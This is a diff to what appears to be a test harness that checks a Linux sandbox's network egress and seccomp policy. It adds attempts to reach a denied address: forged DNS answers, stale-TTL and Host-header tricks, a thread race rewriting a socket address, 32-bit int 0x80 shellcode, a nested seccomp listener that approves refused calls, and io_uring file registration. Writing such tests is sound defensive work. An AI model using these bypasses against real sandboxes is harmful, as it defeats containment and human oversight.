@@ -24,9 +24,10 @@ MAPPED = "::ffff:" + DENIED
 attempts = []
 
 
-def attempt(number, name):
+def attempt(number, name, alone=False):
+    """`alone`: only if it is asked for by name."""
     def add(fn):
-        attempts.append((number, name, fn))
+        attempts.append((number, name, fn, alone))
         return fn
     return add
 
@@ -272,6 +273,41 @@ def _(token):
     c.sendall(token)
 
 
+ALLOWED = ("93.184.216.9", 8080)  # by the manifest, until class 18 is tried
+ALLOWED_THROUGHOUT = ("93.184.216.9", 8081)
+
+
+def wait_until_denied(send, seconds=180):
+    """Sends what is known outside as a sign of life until the kernel refuses it."""
+    end = time.monotonic() + seconds
+    while time.monotonic() < end:
+        try:
+            send(b"flow-of-the-attempt")
+        except socket.timeout:
+            pass
+        except OSError as e:
+            return e
+        time.sleep(0.2)
+    return None
+
+
+@attempt(18, "flows-from-before-a-stricter-policy")
+def _(token):
+    """The outside forbids the port while both are open; the datagrams tell when that holds."""
+    stream = make(socket.AF_INET, socket.SOCK_STREAM)
+    stream.connect(ALLOWED)
+    datagrams = make(socket.AF_INET, socket.SOCK_DGRAM)
+    datagrams.connect(ALLOWED)
+    denied = wait_until_denied(datagrams.send)
+    for send in (datagrams.send, stream.sendall):
+        try:
+            send(token)  # a stream's fills a buffer; whether a packet leaves is for the watcher to say
+        except OSError as e:
+            denied = e
+    time.sleep(1)
+    raise denied or PermissionError(errno.EPERM, "never denied, and the watcher knows what came of it")
+
+
 @attempt(19, "multicast")
 def _(token):
     make(socket.AF_INET, socket.SOCK_DGRAM).sendto(token, ("224.0.0.251", PORT))
@@ -355,6 +391,51 @@ def _(token):
     expect_refused(query(token + b".notallowed.test"))
 
 
+@attempt(24, "address-whose-time-is-over")
+def _(token):
+    answer = query(b"short.allowed.test")  # time to live 0; an address holds five seconds longer
+    if struct.unpack(">H", answer[6:8])[0] == 0:
+        raise Lacking("the name was not answered")
+    time.sleep(8)
+    make(socket.AF_INET, socket.SOCK_DGRAM).sendto(token, ("93.184.216.7", PORT))
+
+
+@attempt(24, "answer-of-many-internal-addresses")
+def _(token):
+    answer = query(b"many.allowed.test")
+    for n in range(1, 25):
+        try:
+            make(socket.AF_INET, socket.SOCK_DGRAM).sendto(token, (f"10.1.3.{n}", PORT))
+        except OSError as e:
+            last = e
+    if struct.unpack(">H", answer[6:8])[0] == 0:
+        raise PermissionError(errno.EPERM, "no address was given")
+    raise last
+
+
+@attempt(25, "another-name-at-a-permitted-address")
+def _(token):
+    query(b"www.allowed.test")
+    make(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"Host: denied.test\r\n" + token, ("93.184.216.8", PORT))
+
+
+@attempt(26, "answers-of-its-own-making")
+def _(token):
+    """Says to itself, and to the gateway, that a permitted name is at the denied address."""
+    name = b"\3www\7allowed\4test\0\0\1\0\1"
+    record = b"\xc0\x0c\0\1\0\1" + struct.pack(">IH", 600, 4) + socket.inet_aton(DENIED)
+    own = make(socket.AF_INET, socket.SOCK_DGRAM)
+    own.bind(("127.0.0.1", 0))
+    for number in range(0, 65536, 257):
+        forged = struct.pack(">HHHHHH", number, 0x8180, 1, 1, 0, 0) + name + record
+        for target in (own.getsockname(), ("10.231.0.1", 53)):
+            try:
+                make(socket.AF_INET, socket.SOCK_DGRAM).sendto(forged, target)
+            except OSError:
+                pass
+    make(socket.AF_INET, socket.SOCK_DGRAM).sendto(token, (DENIED, PORT))
+
+
 # ---- (29) to (37): system calls ----
 
 @attempt(29, "io_uring")
@@ -365,6 +446,38 @@ def _(token):
 @attempt(30, "io_uring-register")
 def _(token):
     call(427, 0, 0, 0, 0)
+
+
+@attempt(31, "io_uring-with-registered-files")
+def _(token):
+    params = ctypes.create_string_buffer(120)
+    ring = call(425, 4, params)
+    call(427, ring, 2, (ctypes.c_int * 1)(0), 1)  # IORING_REGISTER_FILES
+
+
+@attempt(33, "address-rewritten-by-a-second-thread")
+def _(token):
+    """Between a permitted address (its own loopback) and the denied one, while the kernel looks."""
+    address = ctypes.create_string_buffer(sockaddr(2, "127.0.0.1"), 16)
+    here, there = socket.inet_aton("127.0.0.1"), socket.inet_aton(DENIED)
+    stop = []
+
+    def rewrite():
+        while not stop:
+            for ip in (there, here):
+                ctypes.memmove(ctypes.addressof(address) + 4, ip, 4)
+    t = threading.Thread(target=rewrite)
+    t.start()
+    s = make(socket.AF_INET, socket.SOCK_DGRAM)
+    refused = 0
+    for _ in range(30000):
+        try:
+            raw_sendto(s, token, address)
+        except OSError:
+            refused += 1
+    stop.append(1)
+    t.join()
+    raise PermissionError(errno.EPERM, f"{refused} of 30000 were refused")
 
 
 def run_code(code):
@@ -404,6 +517,63 @@ def _(token):
 @attempt(34, "clone3-into-a-cgroup")
 def _(token):
     call(435, ctypes.create_string_buffer(88), 88)
+
+
+@attempt(35, "effect-of-a-call-that-kills")
+def _(token):
+    """mkdir by the 32-bit gate: the process dies, and the directory must not be there."""
+    path = "/tmp/by-the-old-gate"
+
+    def old():
+        low = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | 0x40)
+        low.write(path.encode() + b"\0")
+        where = ctypes.addressof(ctypes.c_char.from_buffer(low))
+        # mov eax, 39; mov ebx, path; mov ecx, 0755; int 0x80; ret
+        run_code(b"\xb8\x27\0\0\0\xbb" + struct.pack("<I", where) + b"\xb9\xed\1\0\0\xcd\x80\xc3")
+    try:
+        in_child(old)
+    except PermissionError as e:
+        ended = e
+    else:
+        ended = None
+    if os.path.isdir(path):
+        return
+    raise ended or PermissionError(errno.EPERM, "nothing was made")
+
+
+@attempt(36, "own-filter-that-says-continue")
+def _(token):
+    """A listener of its own answers "go on" to a call that the sandbox's filter refuses."""
+    code = b"".join(struct.pack("<HBBI", *one) for one in (
+        (0x20, 0, 0, 0), (0x15, 0, 1, 41), (0x06, 0, 0, 0x7FC00000), (0x06, 0, 0, 0x7FFF0000)))
+    instructions = ctypes.create_string_buffer(code, len(code))
+    program = ctypes.create_string_buffer(struct.pack("<HxxxxxxQ", 4, ctypes.addressof(instructions)), 16)
+    result = []
+
+    def asked():
+        try:
+            listener = call(317, 1, 8, program)  # SECCOMP_FILTER_FLAG_NEW_LISTENER
+        except OSError as e:
+            result.append(e)
+            return
+        threading.Thread(target=answer, args=(listener,), daemon=True).start()
+        try:
+            result.append(call(41, socket.AF_PACKET, socket.SOCK_RAW, 0))
+        except OSError as e:
+            result.append(e)
+
+    def answer(listener):
+        while True:
+            notice = ctypes.create_string_buffer(80)
+            if libc.ioctl(listener, ctypes.c_ulong(0xC0502100), notice) < 0:
+                return
+            reply = ctypes.create_string_buffer(notice.raw[:8] + struct.pack("<qiI", 0, 0, 1), 24)
+            libc.ioctl(listener, ctypes.c_ulong(0xC0182101), reply)
+    t = threading.Thread(target=asked, daemon=True)
+    t.start()
+    t.join(5)
+    if not result or isinstance(result[0], OSError):
+        raise result[0] if result else PermissionError(errno.EPERM, "no answer")
 
 
 @attempt(37, "memfd-exec")
@@ -585,6 +755,20 @@ def _(token):
     raise last
 
 
+@attempt(41, "while-both-daemons-are-dead", alone=True)
+def _(token):
+    """The outside kills them at the first sign of life; the kernel must go on to deny."""
+    s = make(socket.AF_INET, socket.SOCK_DGRAM)
+    end = time.monotonic() + 600  # the outside ends it
+    while time.monotonic() < end:
+        try:
+            s.sendto(b"alive-of-the-attempt", ALLOWED_THROUGHOUT)
+            s.sendto(token, (DENIED, PORT))
+        except OSError:
+            pass
+        time.sleep(0.1)
+
+
 @attempt(42, "flood-then-a-message")
 def _(token):
     s = make(socket.AF_INET, socket.SOCK_DGRAM)
@@ -617,8 +801,8 @@ def _(token):
 
 
 def main():
-    for n, (number, name, fn) in enumerate(attempts):
-        if sys.argv[4:] and name not in sys.argv[4:]:
+    for n, (number, name, fn, alone) in enumerate(attempts):
+        if name not in sys.argv[4:] and (sys.argv[4:] or alone):
             continue
         token = f"tok{n:03d}x{os.getpid()}".encode()
         line = {"class": number, "attempt": name, "token": token.decode()}
